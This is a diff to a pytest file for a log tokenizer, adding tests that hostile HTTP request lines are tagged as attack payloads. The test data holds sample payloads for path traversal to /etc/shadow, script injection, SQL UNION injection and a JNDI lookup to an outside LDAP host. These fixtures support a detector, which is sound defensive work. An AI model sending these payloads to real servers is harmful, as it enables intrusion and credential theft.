@@ -88,8 +88,27 @@ def test_words_leave_out_what_varies_and_keep_numbers_that_matter():
     words = words_of(line)
     assert {"http5xx", "durationlong", "percenthigh", "node"} <= set(words)
     assert "deadbeef" not in words
+    assert "durationverylong" in words_of("pause of 14289.3ms")
+    assert "repeatedmany" in words_of("14 consecutive failed logons")
+    assert "repeatedmany" not in words_of("attempt 14 of 20")
     assert words_of("java.net.ConnectException") == ["java", "net", "connect", "exception"]
     assert words_of("can't <*> open <IP>") == ["cant", "open"]
+
+
+@pytest.mark.parametrize(
+    ("line", "attacks"),
+    [
+        ("GET /view?file=../../../etc/shadow HTTP/1.1", True),
+        ("GET /?q=%3Cscript%3Ealert(1) HTTP/1.1", True),
+        ("GET /?id=-1+UNION+SELECT+1,2 HTTP/1.1", True),
+        ("GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1", True),
+        ("    at run (../../src/node_main.cc:12)", False),
+        ("could not resolve placeholder ${payment.url}", False),
+        ("CMD (cd /srv && run | sh )", False),
+    ],
+)
+def test_a_request_that_tries_to_break_in_is_told(line, attacks):
+    assert ("attackpayload" in words_of(line)) is attacks
 
 
 def test_the_thesaurus_knows_synonyms_and_prefixes():
